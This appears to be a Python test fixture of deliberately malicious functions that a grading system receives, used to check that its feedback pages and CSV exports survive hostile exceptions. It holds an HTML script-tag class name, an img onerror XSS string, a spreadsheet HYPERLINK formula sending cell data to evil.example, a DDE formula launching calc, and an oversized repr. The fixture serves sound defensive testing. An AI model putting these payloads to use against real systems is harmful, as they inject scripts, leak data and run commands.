"""Exceptions built to break what reads them: markup and spreadsheet formulas, a cycle of causes, a __str__ that raises.

triple raises an exception whose class is named like an HTML script tag and
whose message is a spreadsheet formula, with a __cause__ cycle; mean_item
raises one whose __str__ raises and whose __repr__ is 5 MB. Fair verdict:
square_sum passes (5 of 9); the feedback pages escape the markup, no CSV cell
starts with a formula, the feedback stays small.
"""


def square_sum(x):
    loss = (x ** 2).sum()
    loss.backward()
    return loss


Evil = type("<script>alert('h3')</script>", (Exception,), {})


def triple(x):
    a = Evil('=HYPERLINK("http://evil.example/?"&A1,"click") <img src=x onerror=alert(1)>')
    b = ValueError("+cmd|' /C calc'!A0")
    a.__cause__ = b
    b.__cause__ = a
    raise a


class Nasty(Exception):
    def __str__(self):
        raise RuntimeError("no words for you")

    def __repr__(self):
        return "R" * 5_000_000


def mean_item(x):
    raise Nasty()
